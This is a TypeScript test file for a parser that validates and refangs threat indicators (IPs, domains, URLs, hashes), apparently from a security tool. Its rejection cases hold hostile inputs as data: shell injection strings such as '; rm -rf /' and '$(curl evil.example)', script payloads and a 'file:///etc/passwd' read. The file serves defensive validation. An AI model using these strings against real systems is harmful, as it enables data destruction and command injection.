import { describe, expect, it } from 'vitest';
import { parseObservable, refang } from '../../../src/commands/ioc.ts';

describe('IOC validation', () => {
  it.each<[string, string, string]>([
    ['198.51.100.7', 'ip', '198.51.100.7'],
    ['0.0.0.0', 'ip', '0.0.0.0'],
    ['2001:db8::1', 'ip', '2001:db8::1'],
    ['2001:DB8:0:0:8:800:200C:417A', 'ip', '2001:db8:0:0:8:800:200c:417a'],
    ['[2001:db8::1]', 'ip', '2001:db8::1'],
    ['::ffff:198.51.100.7', 'ip', '::ffff:198.51.100.7'],
    ['198.51.100[.]7', 'ip', '198.51.100.7'],
    ['down.mykings.pw', 'domain', 'down.mykings.pw'],
    ['Down.MyKings.PW.', 'domain', 'down.mykings.pw'],
    ['_dmarc.example.org', 'domain', '_dmarc.example.org'],
    ['evil[.]example(.)com', 'domain', 'evil.example.com'],
    ['bücher.example', 'domain', 'xn--bcher-kva.example'],
    ['http://down.mykings.pw/ver.txt', 'url', 'http://down.mykings.pw/ver.txt'],
    ['hxxps://evil[.]example/login?next=%2F', 'url', 'https://evil.example/login?next=%2F'],
    ['https://198.51.100.7:8443/x', 'url', 'https://198.51.100.7:8443/x'],
    ['http://[2001:db8::1]/x', 'url', 'http://[2001:db8::1]/x'],
    ['ftp://files.example.org/a.bin', 'url', 'ftp://files.example.org/a.bin'],
    ['44d88612fea8a8f36de82e1278abb02f', 'hash', '44d88612fea8a8f36de82e1278abb02f'],
    ['3395856CE81F2B7382DEE72602F798B642F14140', 'hash', '3395856ce81f2b7382dee72602f798b642f14140'],
    ['275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f', 'hash', '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f'],
  ])('accepts %s as %s', (raw, kind, value) => {
    expect(parseObservable(raw)).toEqual({ kind, value });
  });

  it.each([
    '"; rm -rf /',
    '; rm -rf /',
    '$(curl evil.example)',
    '`id`',
    '198.51.100.7; reboot',
    '1.2.3.999',
    '256.1.1.1',
    'fe80::1%eth0',
    'localhost',
    'web-01',
    '-evil.example',
    'evil-.example',
    'a..example',
    'example.123',
    `${'a'.repeat(64)}.example`,
    `${'a.'.repeat(127)}com`,
    'javascript:alert(1)',
    'file:///etc/passwd',
    'http://',
    'http://exa mple.com/',
    'https://user@/x',
    '44d88612fea8a8f36de82e1278abb02',
    '44d88612fea8a8f36de82e1278abb02fz',
    'g4d88612fea8a8f36de82e1278abb02f',
    '',
    '   ',
    '<script>alert(1)</script>',
    'evil.example/path',
  ])('rejects %j', (raw) => {
    expect(parseObservable(raw)).toBeUndefined();
  });

  it('refangs the common defanging styles', () => {
    expect(refang(' hxxp://a[.]b(.)c{.}d[dot]e[:]8080 ')).toBe('http://a.b.c.d.e:8080');
  });
});
